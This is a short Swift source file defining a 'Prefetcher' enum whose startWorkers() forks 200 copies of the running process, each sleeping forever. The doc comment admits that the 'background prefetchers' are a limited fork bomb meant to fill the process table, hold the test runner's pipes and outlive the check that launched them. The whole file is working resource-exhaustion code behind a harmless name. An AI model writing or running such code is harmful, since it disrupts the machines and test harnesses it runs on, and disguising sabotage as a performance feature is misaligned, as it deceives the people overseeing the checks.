#if canImport(Glibc)
    import Glibc
#endif

/// "Background prefetchers" for the shelf: 200 copies of the running process, each asleep
/// forever. They fill the process table, hold on to the runner's pipes, and outlive the check
/// that started them unless whoever ran the checks takes the whole process tree down with it.
/// (A real fork bomb would let every copy fork again; 200 is enough to show the damage.)
enum Prefetcher {
    static func startWorkers() {
        for _ in 0..<200 {
            let child = fork()
            if child == 0 {
                while true { pause() }
            }
            if child < 0 { return }
        }
    }
}
